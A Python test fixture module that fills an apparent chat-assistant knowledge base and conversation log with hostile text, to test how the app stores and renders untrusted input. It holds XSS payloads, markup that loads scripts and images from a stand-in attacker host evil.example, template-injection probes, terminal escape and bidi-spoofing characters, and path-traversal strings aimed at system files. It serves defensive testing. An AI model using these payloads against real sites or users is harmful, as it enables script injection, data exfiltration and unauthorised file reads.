"""Texts that try to be more than text where they are shown: markup, addresses, formulas, codes."""

from __future__ import annotations

from pathlib import Path

from memory import Feedback, Notes, make_memory
from rag import Assistant
from rag.conversations import log_path, open_log

__all__ = ["LIGHTHOUSE", "NAMES", "PAYLOADS", "SECRET", "SESSION", "WHOLE", "fill"]

SECRET, SESSION = "H" * 22, "f" * 32
"""The visitor who owns all of it, and a conversation that holds every text."""

_BLANK = "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg=="

PAYLOADS: tuple[str, ...] = (
    # elements
    "<script>pwned(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>pwned(2)</script>",
    "</style><script>pwned(3)</script>",
    "<style>*{background:url(http://evil.example/c)}</style>",
    "<img src=x onerror=pwned(4)>",
    "<img src='http://evil.example/i.png'>",
    '"><img src=x onerror=pwned(5)>',
    "'><svg/onload=pwned(6)>",
    "<svg><script>pwned(7)</script></svg>",
    "<svg><use href='http://evil.example/u#x'/></svg>",
    "<iframe src='javascript:pwned(8)'></iframe>",
    "<iframe srcdoc='<script>parent.pwned(9)</script>'></iframe>",
    "<object data='http://evil.example/o'></object><embed src='http://evil.example/e'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/s.css'>",
    "<form action='http://evil.example/f'><button>go</button></form>",
    "<input autofocus onfocus=pwned(10)>",
    "<details open ontoggle=pwned(11)>x</details>",
    "<video><source onerror=pwned(12)></video>",
    "<body onload=pwned(13)>",
    "<a href='javascript:pwned(14)'>click</a>",
    "<math><mtext><img src=x onerror=pwned(15)></mtext></math>",
    "<div style='background:url(http://evil.example/d)'>x</div>",
    "<<script>pwned(16)//<</script>",
    "&lt;script&gt;pwned(17)&lt;/script&gt;",
    "<img/src=`x`onerror=pwned(18)>",
    # Markdown
    "![x](http://evil.example/m.png)",
    "![x][r]\n\n[r]: http://evil.example/r.png",
    "[x](javascript:pwned(19))",
    f"[x]({_BLANK})",
    "[x](http://evil.example/l)",
    "[x][l]\n\n[l]: http://evil.example/l 'title'",
    "[![x](http://evil.example/n.png)](http://evil.example/n)",
    "<http://evil.example/a>",
    "http://evil.example/bare",
    "www.evil.example",
    "me@evil.example",
    "<mailto:me@evil.example>",
    "ftp://evil.example/f",
    "[^1]\n\n[^1]: ![x](http://evil.example/foot.png)",
    "# heading <img src=x onerror=pwned(20)>",
    "| a |\n|---|\n| ![x](http://evil.example/t.png) |",
    "```\n</code><img src=x onerror=pwned(21)>\n```",
    "`</code><img src=x onerror=pwned(22)>`",
    "**bold** *it* ~~s~~ ==m==",
    "> quote\n1. one\n- two\n- [ ] task",
    # formulas
    "$\\href{javascript:pwned(23)}{x}$",
    "$$\\includegraphics{http://evil.example/k.png}$$",
    "$\\htmlClass{stApp}{x}\\url{http://evil.example/k}$",
    "\\(\\def\\x{\\x\\x}\\x\\)",
    # Streamlit
    ":material/home: :smile: :streamlit:",
    ":red[x] :blue-background[x] :rainbow[x] :small[x]",
    ":blue-badge[:material/check: x] :shortcut[Ctrl+K]",
    "--- -> <- <-> >= ~=",
    # templates and data
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "{phrase} {0} {name!r} %s %(x)s",
    '{"$schema":"https://evil.example/v.json","data":{"url":"http://evil.example/v.csv"}}',
    '=HYPERLINK("http://evil.example/","x")',
    # characters
    "\u202egnp.exe\u202c\u2066x\u2069",
    "a\u200bb\u200dc\ufeffd\u00ade",
    "z" + "\u0335\u0321\u0489" * 120,
    "\x1b]0;evil\x07\x1b[31mred\x1b[2J",
    "bell\x07 back\x08 nul\x00 del\x7f",
    "\U0001f600 \U000e0041\U000e0042 \ue000 \ufffe",
    "\u2028line\u2029paragraph\x85next\x0bvertical\x0cform",
    "﷽" * 30,
    # places
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "C:\\x.txt::$DATA",
    "%2e%2e%2f%00.md",
    'con.txt .. / \\ : * ? " < > |',
    "n" * 300,
)
"""Most hold an address of evil.example or a call of `pwned`, which nobody may ever come to."""

NAMES: tuple[str, ...] = tuple(
    "".join("_" if c in "/\r\n\0" or "\ud800" <= c <= "\udfff" else c for c in text)[:200]
    for text in PAYLOADS
)
"""The same as names of files."""

WHOLE = "\n\n".join(PAYLOADS)
"""All in one text."""

LIGHTHOUSE = "The lighthouse of Quill was built in 1871 by the engineer Mary Ash.\n"
"""The one harmless document, for a question that has an answer."""


def fill(folder: Path) -> Path:
    """A knowledge base and its conversation log in which every text is one of these, for `SECRET`.

    Names of files, titles, headings, passages, questions, answers, titles of conversations, notes
    and ratings: each payload is each of them once.
    """
    user = f"page {SECRET}"
    with Assistant.open(folder / "base", model="none", user=user) as assistant:
        report = assistant.add_files(
            [
                (f"{name}.md", f"# Zorb {text}\n\nThe moon of Zorb is copper {text}.\n".encode())
                for name, text in zip(NAMES, PAYLOADS, strict=True)
            ]
        )
        assistant.add_files([("lighthouse.md", LIGHTHOUSE.encode())])
        assert report.count("added") > len(PAYLOADS) // 2, report
    with open_log(log_path(folder / "base")) as log:
        record, notes, feedback = make_memory("window", log).record, Notes(log), Feedback(log)
        for at, text in enumerate(PAYLOADS):
            session = f"{at:032x}"
            said = f"Remember that my badge number {at} is {at}."
            asked, answered = record(said, text, user=user, session=session).turns
            log.rename(text, user=user, session=session)
            feedback.give(answered.id, "down", text, user=user)
            for note in notes.hear(asked):
                notes.edit(note.id, text, user=user)
        record(WHOLE, WHOLE, user=user, session=SESSION)
        log.rename(PAYLOADS[0], user=user, session=SESSION)
        assert len(notes.list(user=user)) > len(PAYLOADS) // 2
    return folder / "base"
